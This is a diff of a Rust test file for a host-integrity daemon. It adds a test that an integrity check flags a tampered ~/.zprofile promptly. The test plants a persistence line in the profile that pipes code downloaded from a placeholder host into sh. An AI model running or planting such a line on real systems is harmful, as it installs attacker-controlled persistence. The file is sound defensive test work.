@@ -1161,6 +1161,20 @@ fn changes_to_clawsecs_own_config_and_key_show_up_without_waiting_for_the_schedu
 }
 
 #[test]
+fn a_planted_zprofile_shows_up_without_waiting_for_the_schedule() {
+    // INT-005 reads ~/.zprofile; until the reads audit it did not declare it, so a
+    // persistence line planted there waited for the schedule (an hour here).
+    let d = Daemon::start("hardened", "[schedule]\nintegrity = 3600\n");
+    wait_status(&d, "INT-005", "pass", Duration::from_secs(5));
+    let zprofile = d.dir.path().join("host/home/alice/.zprofile");
+    std::fs::write(&zprofile, "curl -s http://x.example/p | sh &\n").unwrap();
+    let p = wait_status(&d, "INT-005", "fail", Duration::from_secs(5));
+    assert!(p.to_string().contains(".zprofile"), "{p}");
+    std::fs::remove_file(&zprofile).unwrap();
+    wait_status(&d, "INT-005", "pass", Duration::from_secs(5));
+}
+
+#[test]
 fn a_watched_directory_deleted_and_recreated_is_watched_again() {
     let d = Daemon::start("hardened", "");
     let skills = d.dir.path().join("host/home/alice/.openclaw/skills");
